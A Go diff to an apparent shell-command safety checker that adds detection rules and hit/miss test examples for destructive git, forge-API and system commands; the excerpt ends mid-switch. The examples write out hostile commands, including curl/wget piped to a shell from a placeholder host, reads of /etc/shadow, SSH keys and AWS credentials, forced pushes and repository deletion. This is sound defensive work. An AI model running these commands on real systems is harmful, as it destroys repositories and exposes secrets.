@@ -42,8 +42,8 @@ var builtinRules = [...]rule{
 	{p: Pattern{Name: "git_restore_worktree_files", Level: Medium, Description: "git restore --worktree FILE discards the uncommitted changes to the named files; they cannot be recovered.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"restore"}, FlagsAny: []string{"-W", "--worktree"}, MinOperands: 1}}, m: matcher{}},
 	{p: Pattern{Name: "git_worktree_remove_force", Level: Medium, Description: "git worktree remove --force deletes a worktree together with its uncommitted and untracked files.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"worktree remove"}, FlagsAny: []string{"-f"}}}, m: matcher{}},
 	{p: Pattern{Name: "git_stash_destroy", Level: Medium, Description: "git stash clear / drop deletes stashed changes.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"stash clear", "stash drop"}}}, m: matcher{}},
-	{p: Pattern{Name: "git_push_mirror_delete", Level: High, Description: "git push --mirror or --delete removes branches or whole histories on the remote.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, FlagsAny: []string{"--mirror", "-d"}}}, m: matcher{}},
-	{p: Pattern{Name: "git_push_delete_refspec", Level: High, Description: "git push origin :branch deletes the branch on the remote.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, Operand: ":[^/].*"}}, m: matcher{operand: &lazyRE{expr: ":[^/].*", anchored: true}}},
+	{p: Pattern{Name: "git_push_mirror_delete", Level: High, Description: "git push --mirror makes the remote a copy of the local repository: every branch and tag is force-updated, and those the local repository lacks are deleted on the remote.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, FlagsAny: []string{"--mirror"}}}, m: matcher{}},
+	{p: Pattern{Name: "git_push_delete_refspec", Level: Medium, Description: "git push --delete (or a :branch refspec) deletes a branch or tag on the remote; commits only it held are gone from the remote unless a clone still has them.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, Any: []Spec{{FlagsAny: []string{"-d"}}, {Operand: ":[^/].*"}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {operand: &lazyRE{expr: ":[^/].*", anchored: true}}}}}},
 	{p: Pattern{Name: "wget_pipe_sh", Level: Medium, Description: "Downloads a script with wget and runs it with a shell without inspection: arbitrary remote code execution.", Match: &Spec{Programs: []string{"wget"}, FeedsInto: []string{"sh", "dash", "zsh", "ksh", "ash", "mksh", "fish", "csh", "tcsh", "source", ".", "eval"}}}, m: matcher{}},
 	{p: Pattern{Name: "curl_pipe_sh", Level: Medium, Description: "Downloads a script with curl and runs it with a shell without inspection: arbitrary remote code execution.", Match: &Spec{Programs: []string{"curl"}, FeedsInto: []string{"sh", "dash", "zsh", "ksh", "ash", "mksh", "fish", "csh", "tcsh", "source", ".", "eval"}}}, m: matcher{}},
 	{p: Pattern{Name: "wget_pipe_bash", Level: Medium, Description: "Downloads a script with wget and runs it with bash without inspection: arbitrary remote code execution.", Match: &Spec{Programs: []string{"wget"}, FeedsInto: []string{"bash", "rbash"}}}, m: matcher{}},
@@ -98,6 +98,23 @@ var builtinRules = [...]rule{
 	{p: Pattern{Name: "write_auth_file", Level: High, Description: "Overwrites or appends to a file that controls who can log in or become root (/etc/passwd, /etc/shadow, /etc/sudoers).", Match: &Spec{Redirect: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys"}}, m: matcher{redirect: &lazyRE{expr: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys", anchored: true}}},
 	{p: Pattern{Name: "tee_auth_file", Level: High, Description: "Writes a file that controls who can log in or become root (/etc/passwd, /etc/shadow, /etc/sudoers, authorized_keys).", Match: &Spec{Programs: []string{"tee"}, Operand: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys"}}, m: matcher{operand: &lazyRE{expr: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys", anchored: true}}},
 	{p: Pattern{Name: "copy_over_auth_file", Level: High, Description: "Replaces a file that controls who can log in or become root (/etc/passwd, /etc/shadow, /etc/sudoers, authorized_keys).", Match: &Spec{Programs: []string{"cp", "mv", "install", "ln"}, LastOperand: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys"}}, m: matcher{last: &lazyRE{expr: "/etc/(passwd|shadow|group|gshadow|sudoers)|/etc/sudoers\\.d/.*|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/authorized_keys", anchored: true}}},
+	{p: Pattern{Name: "remote_repo_delete", Level: Critical, Description: "Deletes a repository on its forge (gh repo delete, glab repo delete, hub delete, tea repos delete, az repos delete): its history, issues, pull requests, releases and wiki are gone.", Match: &Spec{Programs: []string{"gh", "glab", "hub", "tea", "gt", "fj", "az"}, Any: []Spec{{Programs: []string{"gh", "glab", "gt", "fj"}, Subcommands: []string{"repo delete"}}, {Programs: []string{"hub"}, Subcommands: []string{"delete"}}, {Programs: []string{"tea"}, Subcommands: []string{"repos delete"}}, {Programs: []string{"az"}, Subcommands: []string{"repos delete"}}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {}, {}, {}}}}},
+	{p: Pattern{Name: "remote_api_repo_delete", Level: Critical, Description: "Deletes a repository through its forge's REST API (gh api -X DELETE repos/OWNER/REPO, glab api -X DELETE projects/ID, curl -X DELETE to api.github.com/repos/..., a GitLab or Gitea API): its history and everything with it is gone.", Match: &Spec{Programs: []string{"gh", "glab", "curl", "http", "https", "xh", "xhs"}, Any: []Spec{{Programs: []string{"gh"}, Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "-X", Value: "(?i)delete"}}, Operand: "/?repos/[^/]+/[^/]+/?"}, {Programs: []string{"gh"}, Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "--method", Value: "(?i)delete"}}, Operand: "/?repos/[^/]+/[^/]+/?"}, {Programs: []string{"glab"}, Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "-X", Value: "(?i)delete"}}, Operand: "/?projects/[^/]+/?"}, {Programs: []string{"glab"}, Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "--method", Value: "(?i)delete"}}, Operand: "/?projects/[^/]+/?"}, {Programs: []string{"curl"}, Values: []FlagValue{{Flag: "-X", Value: "(?i)delete"}}, Args: "(.* )?https?://(api\\.github\\.com/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v3/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v4/projects/[^/ ?]+|[^/ ]+/api/v1/repos/[^/ ]+/[^/ ?]+)/?(\\?[^ ]*)?( .*)?"}, {Programs: []string{"curl"}, Values: []FlagValue{{Flag: "--request", Value: "(?i)delete"}}, Args: "(.* )?https?://(api\\.github\\.com/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v3/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v4/projects/[^/ ?]+|[^/ ]+/api/v1/repos/[^/ ]+/[^/ ?]+)/?(\\?[^ ]*)?( .*)?"}, {Programs: []string{"http", "https", "xh", "xhs"}, Operand: "(?i)delete", Args: "(.* )?(https?://)?(api\\.github\\.com/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v4/projects/[^/ ?]+|[^/ ]+/api/v1/repos/[^/ ]+/[^/ ?]+)/?( .*)?"}}}}, m: matcher{more: &matcherMore{any: []matcher{{operand: &lazyRE{expr: "/?repos/[^/]+/[^/]+/?", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {operand: &lazyRE{expr: "/?repos/[^/]+/[^/]+/?", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {operand: &lazyRE{expr: "/?projects/[^/]+/?", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {operand: &lazyRE{expr: "/?projects/[^/]+/?", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {args: &lazyRE{expr: "(.* )?https?://(api\\.github\\.com/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v3/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v4/projects/[^/ ?]+|[^/ ]+/api/v1/repos/[^/ ]+/[^/ ?]+)/?(\\?[^ ]*)?( .*)?", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {args: &lazyRE{expr: "(.* )?https?://(api\\.github\\.com/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v3/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v4/projects/[^/ ?]+|[^/ ]+/api/v1/repos/[^/ ]+/[^/ ?]+)/?(\\?[^ ]*)?( .*)?", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {operand: &lazyRE{expr: "(?i)delete", anchored: true}, args: &lazyRE{expr: "(.* )?(https?://)?(api\\.github\\.com/repos/[^/ ]+/[^/ ?]+|[^/ ]+/api/v4/projects/[^/ ?]+|[^/ ]+/api/v1/repos/[^/ ]+/[^/ ?]+)/?( .*)?", anchored: true}}}}}},
+	{p: Pattern{Name: "remote_api_ref_delete", Level: High, Description: "Deletes branches, tags, branch protection or rulesets through a forge's REST API (gh api -X DELETE repos/O/R/git/refs/..., .../branches/B/protection, .../rulesets/ID, glab api -X DELETE projects/ID/repository/branches/B): commits only they held, or the rules that guarded them, are gone.", Match: &Spec{Programs: []string{"gh", "glab", "curl"}, Any: []Spec{{Programs: []string{"gh"}, Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "-X", Value: "(?i)delete"}}, Operand: "/?repos/[^/]+/[^/]+/(git/refs/.+|branches/.+|rulesets/.+|tags/protection/.+)"}, {Programs: []string{"gh"}, Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "--method", Value: "(?i)delete"}}, Operand: "/?repos/[^/]+/[^/]+/(git/refs/.+|branches/.+|rulesets/.+|tags/protection/.+)"}, {Programs: []string{"glab"}, Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "-X", Value: "(?i)delete"}}, Operand: "/?projects/[^/]+/(repository/branches/.+|repository/tags/.+|protected_branches/.+|protected_tags/.+)"}, {Programs: []string{"glab"}, Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "--method", Value: "(?i)delete"}}, Operand: "/?projects/[^/]+/(repository/branches/.+|repository/tags/.+|protected_branches/.+|protected_tags/.+)"}, {Programs: []string{"curl"}, Values: []FlagValue{{Flag: "-X", Value: "(?i)delete"}}, Args: "(.* )?https?://(api\\.github\\.com|[^/ ]+/api/v3)/repos/[^/ ]+/[^/ ]+/(git/refs/|branches/|rulesets/)[^ ]+( .*)?"}, {Programs: []string{"curl"}, Values: []FlagValue{{Flag: "--request", Value: "(?i)delete"}}, Args: "(.* )?https?://(api\\.github\\.com|[^/ ]+/api/v3)/repos/[^/ ]+/[^/ ]+/(git/refs/|branches/|rulesets/)[^ ]+( .*)?"}}}}, m: matcher{more: &matcherMore{any: []matcher{{operand: &lazyRE{expr: "/?repos/[^/]+/[^/]+/(git/refs/.+|branches/.+|rulesets/.+|tags/protection/.+)", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {operand: &lazyRE{expr: "/?repos/[^/]+/[^/]+/(git/refs/.+|branches/.+|rulesets/.+|tags/protection/.+)", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {operand: &lazyRE{expr: "/?projects/[^/]+/(repository/branches/.+|repository/tags/.+|protected_branches/.+|protected_tags/.+)", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {operand: &lazyRE{expr: "/?projects/[^/]+/(repository/branches/.+|repository/tags/.+|protected_branches/.+|protected_tags/.+)", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {args: &lazyRE{expr: "(.* )?https?://(api\\.github\\.com|[^/ ]+/api/v3)/repos/[^/ ]+/[^/ ]+/(git/refs/|branches/|rulesets/)[^ ]+( .*)?", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {args: &lazyRE{expr: "(.* )?https?://(api\\.github\\.com|[^/ ]+/api/v3)/repos/[^/ ]+/[^/ ]+/(git/refs/|branches/|rulesets/)[^ ]+( .*)?", anchored: true}, more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}}}}},
+	{p: Pattern{Name: "remote_api_delete", Level: Medium, Description: "Sends a DELETE request through gh api or glab api: it deletes whatever the endpoint names (a release, a comment, a webhook, a deploy key, an environment).", Match: &Spec{Programs: []string{"gh", "glab"}, Subcommands: []string{"api"}, Any: []Spec{{Values: []FlagValue{{Flag: "-X", Value: "(?i)delete"}}}, {Values: []FlagValue{{Flag: "--method", Value: "(?i)delete"}}}}}}, m: matcher{more: &matcherMore{any: []matcher{{more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}, {more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)delete", anchored: true}}}}}}}},
+	{p: Pattern{Name: "remote_release_delete", Level: Medium, Description: "Deletes a release (gh release delete, glab release delete, tea releases delete), with --cleanup-tag its tag too: the assets attached to it are gone.", Match: &Spec{Programs: []string{"gh", "glab", "tea"}, Any: []Spec{{Programs: []string{"gh", "glab"}, Subcommands: []string{"release delete", "release delete-asset"}}, {Programs: []string{"tea"}, Subcommands: []string{"releases delete"}}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {}}}}},
+	{p: Pattern{Name: "remote_release_delete_many", Level: High, Description: "Deletes releases given by another command (xargs, a computed list): every release of the repository may go.", Match: &Spec{Programs: []string{"gh", "glab"}, Subcommands: []string{"release delete"}, Any: []Spec{{Wrappers: []string{"xargs"}}, {Operand: "\\$.*|`.*"}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {operand: &lazyRE{expr: "\\$.*|`.*", anchored: true}}}}}},
+	{p: Pattern{Name: "remote_make_public", Level: High, Description: "Makes a repository public (gh repo edit --visibility public, gh api with visibility=public or private=false): its code and history, secrets committed by mistake included, can be read and cloned by anyone, for good.", Match: &Spec{Programs: []string{"gh"}, Any: []Spec{{Subcommands: []string{"repo edit"}, Values: []FlagValue{{Flag: "--visibility", Value: "(?i)public"}}}, {Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "-f", Value: "(?i)(visibility=public|private=false)"}}}, {Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "-F", Value: "(?i)(visibility=public|private=false)"}}}, {Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "--field", Value: "(?i)(visibility=public|private=false)"}}}, {Subcommands: []string{"api"}, Values: []FlagValue{{Flag: "--raw-field", Value: "(?i)(visibility=public|private=false)"}}}}}}, m: matcher{more: &matcherMore{any: []matcher{{more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)public", anchored: true}}}}, {more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)(visibility=public|private=false)", anchored: true}}}}, {more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)(visibility=public|private=false)", anchored: true}}}}, {more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)(visibility=public|private=false)", anchored: true}}}}, {more: &matcherMore{values: []*lazyRE{&lazyRE{expr: "(?i)(visibility=public|private=false)", anchored: true}}}}}}}},
+	{p: Pattern{Name: "remote_secret_delete", Level: Medium, Description: "Deletes a CI secret or variable, a deploy key, an SSH or GPG key or a gist on the forge (gh secret delete, gh variable delete, gh repo deploy-key delete, gh ssh-key delete, glab variable delete): pipelines and machines that use it break until it is set again.", Match: &Spec{Programs: []string{"gh", "glab"}, Subcommands: []string{"secret delete", "variable delete", "repo deploy-key delete", "ssh-key delete", "gpg-key delete", "gist delete"}}}, m: matcher{}},
+	{p: Pattern{Name: "remote_repo_archive", Level: Low, Description: "Archives a repository (gh repo archive): it becomes read-only for everyone until it is unarchived.", Match: &Spec{Programs: []string{"gh"}, Subcommands: []string{"repo archive"}}}, m: matcher{}},
+	{p: Pattern{Name: "git_push_force_default_branch", Level: Critical, Description: "Force-pushes over the remote's default branch (main, master, trunk, develop): the commits others pushed there are gone from the remote, the irrecoverable destruction of the repository's history.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, Any: []Spec{{FlagsAny: []string{"-f", "--force-with-lease*", "--force-if-includes"}, Operand: "\\+?([^:]*:)?(refs/heads/)?(main|master|trunk|develop)"}, {Operand: "\\+([^:]*:)?(refs/heads/)?(main|master|trunk|develop)"}}}}, m: matcher{more: &matcherMore{any: []matcher{{operand: &lazyRE{expr: "\\+?([^:]*:)?(refs/heads/)?(main|master|trunk|develop)", anchored: true}}, {operand: &lazyRE{expr: "\\+([^:]*:)?(refs/heads/)?(main|master|trunk|develop)", anchored: true}}}}}},
+	{p: Pattern{Name: "git_push_delete_default_branch", Level: Critical, Description: "Deletes the remote's default branch (git push --delete origin main, git push origin :main): its history is gone from the remote.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, Any: []Spec{{FlagsAny: []string{"-d"}, Operand: "(refs/heads/)?(main|master|trunk|develop)"}, {Operand: ":(refs/heads/)?(main|master|trunk|develop)"}}}}, m: matcher{more: &matcherMore{any: []matcher{{operand: &lazyRE{expr: "(refs/heads/)?(main|master|trunk|develop)", anchored: true}}, {operand: &lazyRE{expr: ":(refs/heads/)?(main|master|trunk|develop)", anchored: true}}}}}},
+	{p: Pattern{Name: "git_push_delete_branches", Level: High, Description: "Deletes long-lived branches on the remote (release/*, hotfix/*, stable, production, staging) or a computed list of branches (git push --delete $(...), xargs): history others build on is gone from the remote.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, Any: []Spec{{FlagsAny: []string{"-d"}, Operand: "(refs/heads/)?((release|releases|hotfix|hotfixes|support)[/-].+|stable|production|prod|staging|live)"}, {Operand: ":(refs/heads/)?((release|releases|hotfix|hotfixes|support)[/-].+|stable|production|prod|staging|live)"}, {FlagsAny: []string{"-d"}, Operand: "\\$.*|`.*"}, {FlagsAny: []string{"-d"}, Wrappers: []string{"xargs"}}}}}, m: matcher{more: &matcherMore{any: []matcher{{operand: &lazyRE{expr: "(refs/heads/)?((release|releases|hotfix|hotfixes|support)[/-].+|stable|production|prod|staging|live)", anchored: true}}, {operand: &lazyRE{expr: ":(refs/heads/)?((release|releases|hotfix|hotfixes|support)[/-].+|stable|production|prod|staging|live)", anchored: true}}, {operand: &lazyRE{expr: "\\$.*|`.*", anchored: true}}, {}}}}},
+	{p: Pattern{Name: "git_push_force_all", Level: Critical, Description: "Force-pushes every branch (git push --all --force, +refs/heads/*): the default branch's history on the remote is overwritten with the local one, whatever others pushed.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, Any: []Spec{{FlagsAll: []string{"-f", "--all"}}, {FlagsAll: []string{"-f", "--branches"}}, {FlagsAll: []string{"--force-with-lease*", "--all"}}, {FlagsAll: []string{"--force-with-lease*", "--branches"}}, {Operand: "\\+(refs/heads/)?\\*(:.*)?"}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {}, {}, {}, {operand: &lazyRE{expr: "\\+(refs/heads/)?\\*(:.*)?", anchored: true}}}}}},
+	{p: Pattern{Name: "git_push_force_unnamed_branch", Level: Medium, Description: "Force-pushes (--force, not --force-with-lease) a branch the line does not name (no refspec, HEAD, or a computed word): if it is the default branch, its history on the remote is overwritten; shellguard cannot verify which it is.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, FlagsNone: []string{"--force-with-lease*"}, Check: "push_branch_unknown", Any: []Spec{{FlagsAny: []string{"-f"}}, {Operand: "\\+.*"}}}}, m: matcher{more: &matcherMore{any: []matcher{{}, {operand: &lazyRE{expr: "\\+.*", anchored: true}}}}}},
+	{p: Pattern{Name: "git_push_prune", Level: High, Description: "git push --prune deletes every branch on the remote that the local clone does not have.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, FlagsAny: []string{"--prune"}}}, m: matcher{}},
+	{p: Pattern{Name: "git_push_code_elsewhere", Level: High, Description: "Pushes every branch or tag (--all, --mirror, --tags) to a URL, or to a remote the same line adds or re-points: the whole repository leaves for a place nothing on the line vouches for.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push"}, Check: "push_code_elsewhere"}}, m: matcher{}},
+	{p: Pattern{Name: "git_url_credentials", Level: Medium, Description: "A git URL with a password or token in it (https://user:TOKEN@host/...): the secret lands in the shell history, the process list and, for remote add, in .git/config.", Match: &Spec{Programs: []string{"git"}, Subcommands: []string{"push", "clone", "fetch", "pull", "ls-remote", "remote add", "remote set-url", "submodule add"}, Operand: "https?://[^/@:]*:[^/@]+@.*|https?://(gh[pousr]_|github_pat_|glpat-)[^/@]*@.*"}}, m: matcher{operand: &lazyRE{expr: "https?://[^/@:]*:[^/@]+@.*|https?://(gh[pousr]_|github_pat_|glpat-)[^/@]*@.*", anchored: true}}},
 	{p: Pattern{Name: "read_secret_file", Level: Medium, Description: "Reads a file that holds password hashes or private keys (/etc/shadow, ~/.ssh/id_*, cloud credentials).", Match: &Spec{Reads: "/etc/(shadow|gshadow|sudoers)-?|/etc/security/opasswd|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/id_[^ ]*|(~|\\$HOME|/root|/home/[^/]+)/\\.(aws/credentials|docker/config\\.json|netrc|git-credentials|pgpass)|/etc/ssh/ssh_host_[^ ]*_key", Except: []string{"echo", "printf", "ls", "stat", "file", "test", "[", "chmod", "chown", "touch"}}}, m: matcher{reads: &lazyRE{expr: "/etc/(shadow|gshadow|sudoers)-?|/etc/security/opasswd|(~|\\$HOME|/root|/home/[^/]+)/\\.ssh/id_[^ ]*|(~|\\$HOME|/root|/home/[^/]+)/\\.(aws/credentials|docker/config\\.json|netrc|git-credentials|pgpass)|/etc/ssh/ssh_host_[^ ]*_key", anchored: true}}},
 	{p: Pattern{Name: "fork_bomb", Level: Critical, Description: "A fork bomb: a function that starts copies of itself without end, exhausting the process table until the machine needs a hard reboot.", Match: &Spec{Check: "fork_bomb"}}, m: matcher{}},
 	{p: Pattern{Name: "kill_all_processes", Level: High, Description: "kill -1 sends the signal to every process the user may signal: everything the user runs (or the whole system, as root) dies.", Match: &Spec{Programs: []string{"kill"}, Args: "(.* )?-1"}}, m: matcher{args: &lazyRE{expr: "(.* )?-1", anchored: true}}},
@@ -181,9 +198,9 @@ func builtinExamples(i int) (hit, miss []string) {
 	case 35:
 		return []string{"git stash clear", "git stash drop", "git stash drop stash@{2}"}, []string{"git stash list", "git stash pop", "git stash push -m \"drop this later\""}
 	case 36:
-		return []string{"git push --mirror", "git push origin --delete feature", "git push -d origin old", "git push --mirror git@example.com:org/repo.git"}, []string{"git push origin main", "git push -n --delete origin old-branch", "git push --tags"}
+		return []string{"git push --mirror", "git push --mirror git@example.com:org/repo.git", "git push origin --mirror"}, []string{"git push origin main", "git push --dry-run --mirror", "git push --tags", "git push origin --delete feature"}
 	case 37:
-		return []string{"git push origin :feature", "git push origin :refs/heads/old"}, []string{"git push origin feature", "git push origin main:feature"}
+		return []string{"git push origin :feature", "git push origin :refs/heads/old", "git push origin --delete feature", "git push -d origin old", "git push origin --delete v1.2.3"}, []string{"git push origin feature", "git push origin main:feature", "git push -n --delete origin old-branch", "git push --tags"}
 	case 38:
 		return []string{"wget -qO- http://x | sh", "wget -O - https://get.example.com | zsh", "sh -c \"$(wget -qO- https://x)\""}, []string{"wget https://example.com/x.tar.gz", "wget -qO- https://x | less"}
 	case 39:
@@ -293,21 +310,55 @@ func builtinExamples(i int) (hit, miss []string) {
 	case 91:
 		return []string{"cp /tmp/passwd /etc/passwd", "sudo install -m 440 me /etc/sudoers.d/me", "ln -sf /tmp/keys ~/.ssh/authorized_keys"}, []string{"cp /etc/passwd /tmp/passwd", "cp id.pub ~/.ssh/id.pub"}
 	case 92:
-		return []string{"cat /etc/shadow", "cat ~/.ssh/id_rsa", "cat < ~/.ssh/id_rsa", "cat</etc/shadow", "cat 0< \"$HOME/.ssh/id_ed25519\"", "echo < /etc/shadow", "< /etc/shadow grep root", "{ cat; } < /etc/gshadow", "base64 ~/.aws/credentials"}, []string{"cat < ~/notes.txt", "cat <<< /etc/shadow", "cat <<'EOF' > /tmp/x\n/etc/shadow\nEOF", "echo /etc/shadow", "grep root < /etc/passwd", "ls -l /etc/shadow", "cat /etc/passwd", "ssh-keygen -y -f key > key.pub"}
+		return []string{"gh repo delete acme/api --yes", "gh repo delete --yes", "gh repo delete acme/infra --confirm", "GH_TOKEN=$TOKEN gh repo delete acme/legacy --yes", "glab repo delete acme/platform -y", "glab repo delete group/sub/project --yes", "hub delete -y sinatra/recipes", "tea repos delete --owner acme --name old --force", "tea repo rm --name old", "gt repo delete alice/old-project --yes", "fj repo delete alice/old", "az repos delete --id 3c7e1a2b --yes", "gh repo list acme --json name -q '.[].name' | xargs -I{} gh repo delete acme/{} --yes", "env GH_HOST=github.example.com gh repo delete team/app --yes"}, []string{"gh repo view acme/api", "gh repo create acme/new --private", "gh repo delete --help", "glab repo view acme/platform", "tea repos ls", "gh repo clone acme/api", "gh repo list acme", "az repos list", "echo gh repo delete acme/api --yes", "git commit -m \"docs: never run gh repo delete\""}
 	case 93:
-		return []string{":(){ :|:& };:", ":(){:|:&};:", "bomb() { bomb | bomb & }; bomb"}, []string{"f() { echo hi; }; f", "git commit -m 'fix: avoid :(){ :|:& };:' ", "f() { f; }"}
+		return []string{"gh api -X DELETE repos/acme/website", "gh api -XDELETE /repos/acme/api", "gh api repos/acme/api -X DELETE", "gh api --method DELETE repos/acme/api", "gh api --method=DELETE /repos/acme/api/", "glab api -X DELETE projects/123", "glab api --method DELETE projects/acme%2Fapi", "curl -X DELETE -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/repos/acme/api", "curl -s --request DELETE --header \"PRIVATE-TOKEN: $GL_TOKEN\" \"https://gitlab.example.com/api/v4/projects/42\"", "curl -u admin:pw -X DELETE \"https://git.example.com/api/v1/repos/org/app\""}, []string{"gh api repos/acme/api", "gh api -X GET repos/acme/api/branches", "gh api -X DELETE repos/acme/api/releases/123", "glab api projects/123", "curl https://api.github.com/repos/acme/api", "curl -X DELETE https://api.github.com/repos/acme/api/issues/comments/1"}
 	case 94:
-		return []string{"kill -9 -1", "kill -KILL -1", "sudo kill -TERM -1"}, []string{"kill -9 1234", "kill -l", "kill -1 1234"}
+		return []string{"gh api --method DELETE /repos/acme/api/git/refs/heads/main", "gh api -X DELETE repos/acme/api/git/refs/heads/release-2024", "gh api --method DELETE repos/acme/web/git/refs/tags/v1.0.0", "gh api repos/acme/api/branches/main/protection -X DELETE", "gh api -X DELETE repos/acme/api/rulesets/42", "glab api -X DELETE projects/123/repository/branches/main", "glab api --method DELETE projects/123/protected_branches/main", "curl -X DELETE -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/repos/acme/api/git/refs/heads/old", "curl -X DELETE https://api.github.com/repos/acme/api/branches/main/protection"}, []string{"gh api repos/acme/api/git/refs/heads/main", "gh api --method GET repos/acme/api/git/refs/heads/main", "gh api repos/acme/api/branches/main/protection", "glab api projects/123/repository/branches", "gh api -X POST repos/acme/api/git/refs -f ref=refs/heads/x -f sha=abc"}
 	case 95:
-		return []string{"crontab -r", "crontab --remove", "sudo crontab -u www-data -r"}, []string{"crontab -l", "crontab -e", "crontab -u www-data -l"}
+		return []string{"gh api -X DELETE repos/acme/api/releases/12345678", "gh api --method=DELETE repos/acme/site/releases/98765432", "gh api -X DELETE repos/acme/api/hooks/1", "glab api -X DELETE projects/1/variables/TOKEN"}, []string{"gh api repos/acme/api/releases", "gh api -X POST repos/acme/api/dispatches -f event_type=deploy", "glab api projects/1/variables"}
 	case 96:
+		return []string{"gh release delete v2.0.0 --yes --cleanup-tag", "gh release delete v3.1.0 -y", "glab release delete v1.0.0 --with-tag --yes", "tea releases delete v1.2.0 --confirm", "gh release list --json tagName -q '.[].tagName' | xargs -n1 gh release delete -y"}, []string{"gh release list --limit 5", "gh release view v1.4.2", "gh release create v1.4.2 --generate-notes dist/*", "glab release list", "tea releases ls"}
+	case 97:
+		return []string{"gh release list --json tagName -q '.[].tagName' | xargs -n1 gh release delete -y", "gh release delete $(gh release list --json tagName -q \".[].tagName\") -y"}, []string{"gh release delete v3.1.0 -y", "gh release list | head"}
+	case 98:
+		return []string{"gh repo edit acme/api --visibility public --accept-visibility-change-consequences", "gh repo edit --visibility=public", "gh api -X PATCH repos/acme/api -f visibility=public", "gh api --method PATCH repos/acme/api -F private=false", "gh api -X PATCH repos/acme/api --raw-field visibility=public"}, []string{"gh repo edit --visibility private", "gh repo edit --description \"Billing service\"", "gh repo view acme/api --json visibility", "gh api -X PATCH repos/acme/api -f description=x"}
+	case 99:
+		return []string{"gh secret delete AWS_SECRET_ACCESS_KEY", "gh secret remove NPM_TOKEN -R acme/api", "gh variable delete DEPLOY_ENV", "gh repo deploy-key delete 12345", "gh ssh-key delete 987 --yes", "gh gist delete 0123abcd", "glab variable delete TOKEN"}, []string{"gh secret list", "gh secret set API_KEY < api_key.txt", "gh variable list", "gh ssh-key list", "glab variable list"}
+	case 100:
